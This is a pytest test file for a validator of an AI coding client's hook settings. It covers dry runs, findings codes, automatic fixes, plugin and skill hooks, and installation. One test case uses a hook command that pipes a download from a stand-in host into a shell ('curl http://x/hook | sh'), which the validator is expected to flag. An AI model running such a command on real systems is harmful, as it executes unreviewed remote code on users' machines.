"""The validator for people: what it prints, runs, mends and survives. What the client does: test_differential.py."""

from __future__ import annotations

import json
import stat
import subprocess
import sys
import time
import venv
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parhelia_mcp import hook_install
from parhelia_mcp.errors import Usage
from parhelia_mcp.hook_validation.shape import check
from parhelia_mcp.hook_validation.sources import Source
from parhelia_mcp.hook_validator import HookValidator, Report
from tests import setup
from tests.front import Front

ONE_LINER = "from parhelia.hook_validator import HookValidator; v = HookValidator(); print(v.validate())"
ENVIRON = {"PATH": "/usr/bin:/bin"}


def project_with(tmp_path: Path, data: Any) -> Path:
    (tmp_path / ".claude").mkdir(exist_ok=True)
    path = tmp_path / ".claude" / "settings.json"
    path.write_text(data if isinstance(data, str) else json.dumps(data))
    return path


def script(tmp_path: Path, body: str, mode: int = 0o755) -> str:
    path = tmp_path / "hook.sh"
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(mode)
    return str(path)


def report(tmp_path: Path, data: Any, *, run: bool = False) -> Report:
    project_with(tmp_path, data)
    return HookValidator(home=tmp_path / "home", project=tmp_path, environ=ENVIRON).validate(run=run)


def pre(command: str, **fields: Any) -> dict[str, Any]:
    return {
        "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": command, **fields}]}]}
    }


def changing(one: str, other: str, matcher: str = "Bash") -> dict[str, Any]:
    groups = [pre(one)["hooks"]["PreToolUse"][0], {**pre(other)["hooks"]["PreToolUse"][0], "matcher": matcher}]
    return {"hooks": {"PreToolUse": groups}}


def codes(found: Report) -> set[str]:
    return {finding.code for finding in found.findings if finding.code != "HK171"}


def test_the_one_liner_works_and_can_be_read(tmp_path: Path) -> None:
    (tmp_path / "mine").mkdir()
    project_with(tmp_path / "mine", {"hooks": {"PreToolUse": [{"hooks": ["~/.claude/hooks/my_hook.py"]}]}})
    done = subprocess.run(
        [sys.executable, "-c", ONE_LINER],
        cwd=tmp_path / "mine",
        env={"HOME": str(tmp_path), **ENVIRON},
        capture_output=True,
        text=True,
        check=True,
    )
    assert "error[HK110]" in done.stdout
    assert "/hooks/PreToolUse/0/hooks/0" in done.stdout
    assert '{"type": "command", "command": "python3 ~/.claude/hooks/my_hook.py", "timeout": 10}' in done.stdout


def test_the_one_liner_works_from_a_wheel(tmp_path: Path) -> None:
    pip = [sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", "-w", str(tmp_path / "dist"), str(setup.ROOT)]
    subprocess.run(pip, check=True, capture_output=True)
    venv.create(tmp_path / "venv", with_pip=False)
    (wheel,) = (tmp_path / "dist").glob("*.whl")
    site = next((tmp_path / "venv" / "lib").glob("python*/site-packages"))
    subprocess.run([sys.executable, "-m", "zipfile", "-e", str(wheel), str(site)], check=True)
    done = subprocess.run(
        [tmp_path / "venv" / "bin" / "python", "-c", ONE_LINER],
        cwd=tmp_path,
        env={"HOME": str(tmp_path), **ENVIRON},
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout.startswith("Hooks: no settings file was found")
    assert (site / "parhelia_mcp" / "_hooks" / "run").exists()
    assert not (site / "parhelia_mcp" / "_alias").exists()


def test_a_sound_hook_has_no_findings(tmp_path: Path) -> None:
    found = report(tmp_path, pre(script(tmp_path, "exit 0\n"), timeout=5), run=True)
    assert found.ok
    assert codes(found) == set()


@pytest.mark.parametrize(
    ("body", "fields", "code"),
    [
        ("exit 3\n", {}, "HK160"),
        ("kill -9 $$\n", {}, "HK160"),
        ("sleep 30\n", {"timeout": 1}, "HK161"),
        ("echo '{\"a\":'\n", {}, "HK162"),
        ('echo \'{"hookSpecificOutput":{"permissionDecision":"deny"}}\'\n', {}, "HK162"),
        ('echo \'{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"no"}}\'\n', {}, "HK162"),
        ('echo hi; echo \'{"hookSpecificOutput":{"permissionDecision":"deny"}}\'\n', {}, "HK162"),
        ("echo no >&2; exit 1\n", {}, "HK163"),
        ('echo \'{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"allow"}}\'\n', {}, "HK164"),
        ("exit 2\n", {}, "HK165"),
    ],
)
def test_a_dry_run_says_what_the_client_would_make_of_it(
    tmp_path: Path, body: str, fields: dict[str, Any], code: str
) -> None:
    assert codes(report(tmp_path, pre(script(tmp_path, body), **fields), run=True)) == {code}


def test_a_dry_run_touches_neither_home_nor_project_and_leaves_nothing_running(tmp_path: Path) -> None:
    body = 'sleep 60 & echo $! >"$CLAUDE_PROJECT_DIR"/child\ntouch here ~/there\n'
    assert report(tmp_path, pre(script(tmp_path, body)), run=True).ok
    assert not (tmp_path / "here").exists()
    assert not (tmp_path / "home").exists()
    child = (tmp_path / "child").read_text().strip()
    deadline = time.monotonic() + 5
    while alive(child):
        assert time.monotonic() < deadline


def test_a_dry_run_tells_each_event_what_it_is_about_and_starts_no_work_in_the_background(tmp_path: Path) -> None:
    read = "python3 -c 'import json, sys; json.load(sys.stdin)[\"{}\"]'"
    asked = {"UserPromptSubmit": "prompt", "SessionStart": "source", "PostToolUse": "tool_response"}
    hooks = {event: [{"hooks": [{"type": "command", "command": read.format(key)}]}] for event, key in asked.items()}
    work = f"touch {tmp_path}/WORKED"
    hooks["SessionStart"][0]["hooks"].append({"type": "command", "command": work, "async": True})
    assert codes(report(tmp_path, {"hooks": hooks}, run=True)) == set()
    assert not (tmp_path / "WORKED").exists()


def alive(pid: str) -> bool:
    done = subprocess.run(["ps", "-o", "stat=", "-p", pid], capture_output=True, text=True, check=False)
    return done.stdout.strip()[:1] not in ("", "Z")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (pre("curl http://x/hook | sh"), "HK142"),
        (pre("true sk-ant-REDACTED0123"), "HK142"),
        (pre("true", timeout=5000), "HK115"),
        (pre("true", onFailure="block"), "HK171"),
        (pre("true", **{"async": True}), "HK126"),
        ({"hooks": {"PreToolUze": []}}, "HK120"),
        ({"hooks": {"Stop": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "true"}]}]}}, "HK121"),
        ({"hooks": {"PreToolUse": [{"matcher": "Write|Edit", "hooks": []}]}}, "HK124"),
        ({"hooks": {"PreToolUse": [pre("true")["hooks"]["PreToolUse"][0]] * 2}}, "HK150"),
        (pre("./hook.sh"), "HK136"),
        (changing("echo updatedInput", "echo '{updatedInput}'"), "HK151"),
        (changing("echo updatedInput", "sh ./change.sh", matcher="Edit|Bash"), "HK151"),
        (changing("echo updatedInput", "python3 ./outer.py", matcher="Edit|Bash"), "HK151"),
    ],
)
def test_what_works_but_should_not_be_so_is_a_warning(tmp_path: Path, data: Any, code: str) -> None:
    script(tmp_path, "exit 0\n")
    (tmp_path / "change.sh").write_text("echo updatedInput\n")
    (tmp_path / "outer.py").write_text("import json\nfrom inner import change\n")
    (tmp_path / "inner.py").write_text("import outer\nKEY = 'updatedInput'\n")
    found = report(tmp_path, data)
    assert found.ok, str(found)
    assert code in {finding.code for finding in found.findings}


def test_hooks_that_change_different_tools_or_only_look_do_not_meet(tmp_path: Path) -> None:
    found = report(tmp_path, changing("echo updatedInput", "echo updatedInput too", matcher="Edit"))
    assert codes(found) == set(), str(found)
    assert codes(report(tmp_path, changing("echo updatedInput", "true"))) == set()


def test_what_the_project_runs_is_named_until_git_holds_it_as_it_is(front: Front) -> None:
    project = front.repository()
    path = script(project, "exit 0\n")
    settings_file = project_with(project, pre('"$CLAUDE_PROJECT_DIR"/hook.sh'))

    def unreviewed() -> dict[str, str]:
        found = HookValidator(home=front.user_home, project=project, environ=ENVIRON).validate().findings
        return {each.file: each.what for each in found if each.code == "HK141"}

    assert unreviewed() == dict.fromkeys((str(settings_file), path), "It is not in git: it came from somewhere else.")
    front.git("add", "-A")
    assert unreviewed() == {}
    script(project, "exit 0 # in another way\n")
    assert unreviewed() == {path: "It was changed since it was last added to git."}


def test_a_script_that_everybody_can_change_is_an_error(tmp_path: Path) -> None:
    found = report(tmp_path, pre(script(tmp_path, "exit 0\n", 0o777)))
    assert codes(found) == {"HK140"}
    assert not found.ok


def test_a_directory_or_a_dangling_link_is_no_script(tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "gone")
    for name in ("folder", "link"):
        assert codes(report(tmp_path, pre(f"{tmp_path}/{name}"))) == {"HK131"}


def test_the_hooks_of_an_enabled_plugin_are_checked(tmp_path: Path) -> None:
    plugin = tmp_path / "home" / ".claude" / "plugins" / "cache" / "x"
    (plugin / "hooks").mkdir(parents=True)
    (plugin / "hooks" / "hooks.json").write_text(json.dumps(pre('sh "${CLAUDE_PLUGIN_ROOT}"/hooks/gone')))
    installed = {"plugins": {"x@m": [{"installPath": str(plugin)}]}}
    (plugin.parent.parent / "installed_plugins.json").write_text(json.dumps(installed))
    (plugin.parent.parent / "known_marketplaces.json").write_text(json.dumps({"m": {"source": {"source": "github"}}}))
    settings_file = tmp_path / "home" / ".claude" / "settings.json"
    for enabled in (True, False):
        settings_file.write_text(json.dumps({"enabledPlugins": {"x@m": enabled}}))
        found = HookValidator(home=tmp_path / "home", project=tmp_path, environ=ENVIRON).validate()
        assert codes(found) == ({"HK130"} if enabled else set())
    (plugin / "hooks" / "hooks.json").write_text(json.dumps(pre("true /home/somebody/else.py")))
    settings_file.write_text(json.dumps({"enabledPlugins": {"x@m": True}}))
    found = HookValidator(home=tmp_path / "home", project=tmp_path, environ=ENVIRON).validate()
    assert [(each.code, each.severity) for each in found.findings if each.code != "HK171"] == [("HK138", "error")]


PAGE = """---
name: hooked # a skill with a hook of its own
description: "guard: all"
hooks:
  PreToolUse:
    # before each command
    - matcher: 'Bash'
      hooks:
        - type: command
          command: "sh \\"${CLAUDE_PLUGIN_ROOT}\\"/gone.sh"  # beside this page
          timeout: 5
        - command: |
            true
          type: command
  Stop:
  - hooks: [{"type": "command", "command": "true"}]
---
hooks:
  PreToolUze: []
"""


def test_the_front_matter_of_a_skill_is_read_as_yaml(tmp_path: Path) -> None:
    page = tmp_path / ".claude" / "skills" / "hooked" / "SKILL.md"
    page.parent.mkdir(parents=True)
    for text, wanted, hooks in (
        (PAGE, {"HK130"}, 3),
        (PAGE.replace("/gone.sh", "/SKILL.md"), set(), 3),
        (PAGE.replace("PreToolUse", "PreToolUze"), {"HK120"}, 0),
        (PAGE.replace("timeout: 5", "timeout: '5'"), {"HK114"}, 0),
        (PAGE.replace("PreToolUse:", "PreToolUse: &x"), {"HK172"}, 0),
        (PAGE.replace("hooks:\n  Pre", "none:\n  Pre"), set(), 0),
    ):
        page.write_text(text)
        found = HookValidator(home=tmp_path / "home", project=tmp_path, environ=ENVIRON).validate()
        assert (codes(found), found.hooks) == (wanted, hooks), str(found)


def test_fix_rewrites_bare_paths_and_keeps_the_file_as_it_was(tmp_path: Path) -> None:
    hook = tmp_path / "my_hook.py"
    hook.write_text("")
    path = project_with(
        tmp_path, {"model": "opus", "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [str(hook)]}]}}
    )
    path.chmod(0o640)
    before = path.read_bytes()
    validator = HookValidator(home=tmp_path / "home", project=tmp_path, environ=ENVIRON)
    assert not validator.validate().ok
    ((changed, backup),) = validator.fix()
    assert (changed, backup.read_bytes()) == (path, before)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    after = json.loads(path.read_text())
    entry = {"type": "command", "command": f"python3 {hook}", "timeout": 10}
    assert after == {"model": "opus", "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [entry]}]}}
    assert validator.validate().ok
    assert validator.fix() == []


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                ["hooks", "PreToolUse", "matcher", "type", "command", "timeout", "args", "permissions", "deny"]
            ),
            inner | st.sampled_from(["command", "prompt", "Bash", "(", "a/b $X", '"', "~/x y", "PreToolUse"]),
            max_size=4,
        )
    ),
    max_leaves=20,
)


@settings(max_examples=300, deadline=None)
@given(JSON)
def test_no_content_makes_it_raise(data: Any) -> None:
    loaded, findings = check(Source("user", Path("/x")), {"hooks": {"PreToolUse": data}})
    validator = HookValidator(home=Path("/nowhere"), project=Path("/nowhere"), environ=ENVIRON)
    assert all(validator.judge(hook) is not None for hook in loaded)
    assert all(finding.fix for finding in findings)


def test_no_file_makes_it_raise(tmp_path: Path) -> None:
    path = project_with(tmp_path, "")
    for data in (b"", b"\0", b"\xff\xfe", b"[" * 100_000, b'{"hooks": "\xff"}', b'{"enabledPlugins": [1]}'):
        path.write_bytes(data)
        assert str(HookValidator(home=tmp_path, project=tmp_path / "x", environ=ENVIRON).validate())
    path.unlink()
    path.mkdir()
    assert codes(HookValidator(home=tmp_path, project=tmp_path / "x", environ=ENVIRON).validate()) == {"HK102"}


def test_install_writes_plain_settings_that_validate_and_keeps_the_rest(tmp_path: Path) -> None:
    own = {"type": "command", "command": "true"}
    path = project_with(tmp_path, {"model": "opus", "hooks": {"PreToolUse": [{"hooks": [own]}]}})
    first = hook_install.install(path)
    assert first.backup and json.loads(first.backup.read_text())["hooks"]["PreToolUse"] == [{"hooks": [own]}]
    assert not hook_install.install(path).changed
    after = json.loads(path.read_text())
    assert after["model"] == "opus"
    assert after["hooks"]["PreToolUse"][0] == {"hooks": [own]}
    assert len(after["hooks"]["PreToolUse"]) == 3
    assert "CLAUDE_PLUGIN_ROOT" not in path.read_text()
    found = HookValidator(home=tmp_path, project=tmp_path / "x", environ=ENVIRON).validate(run=True)
    assert codes(found) == set(), str(found)


def test_install_leaves_a_file_alone_that_the_client_would_ignore(tmp_path: Path) -> None:
    path = project_with(tmp_path, '{"hooks": {"PreToolUse": ["x"]},}')
    before = path.read_bytes()
    with pytest.raises(Usage, match="left as it is"):
        hook_install.install(path)
    assert path.read_bytes() == before


def test_the_command_line_validates_fixes_and_installs(front: Front) -> None:
    project_with(front.cwd, {"hooks": {"PreToolUse": [{"hooks": ["/bin/true"]}]}})
    assert "error[HK110]" in front.text("hooks", "validate", code=2)
    assert front.text("hooks", "validate", "--fix", "--run").startswith(f"rewrote {front.cwd}")
    installed = front.json("hooks", "install")
    assert (installed["ok"], installed["hooks"]) == (True, 4)
    assert front.json("hooks", "install")["changed"] == []


def test_the_command_line_shows_what_travels(front: Front) -> None:
    claude = front.user_home / ".claude"
    claude.mkdir()
    (claude / "CLAUDE.md").write_text("Be brief.")
    (claude / "history.jsonl").write_text("{}")
    shown = front.text("config", "diff")
    assert "travels" in shown and "~/.claude/CLAUDE.md" in shown
    assert {"name": "~/.claude/history.jsonl", "note": "history"} in front.json("config", "diff")["dropped"]
    assert "Parhelia's own MCP server" in shown


def test_a_dry_run_finds_a_script_below_home_and_gives_it_another_home(tmp_path: Path) -> None:
    folder = tmp_path / "home" / ".claude" / "hooks"
    folder.mkdir(parents=True)
    (folder / "one.sh").write_text('echo "$HOME" >"$CLAUDE_PROJECT_DIR"/told\n')
    for command in ("sh ~/.claude/hooks/one.sh", 'sh "$HOME"/.claude/hooks/one.sh'):
        assert codes(report(tmp_path, pre(command), run=True)) == set()
        assert (tmp_path / "told").read_text().strip() != str(tmp_path / "home")
        (tmp_path / "told").unlink()


def test_a_moved_configuration_is_the_one_that_is_checked_and_written(front: Front) -> None:
    moved = front.user_home / "moved"
    env = {"CLAUDE_CONFIG_DIR": str(moved)}
    assert front.json("hooks", "install", env=env)["changed"][0]["file"] == str(moved / "settings.json")
    assert front.json("hooks", "validate", env=env)["files"] == [str(moved / "settings.json")]
    (moved / "settings.json").write_text("{")
    assert str(moved) in front.text("doctor", env=env, code=2)
    assert not (front.user_home / ".claude").exists()


def test_what_the_hooks_read_from_the_environment_is_no_unknown_setting(front: Front) -> None:
    given = {"PARHELIA_HINT": "off", "PARHELIA_PYTHON": "/usr/bin/python3", "PARHELIA_ROOT": "/opt/parhelia"}
    assert front.json("config", env=given)["ok"]
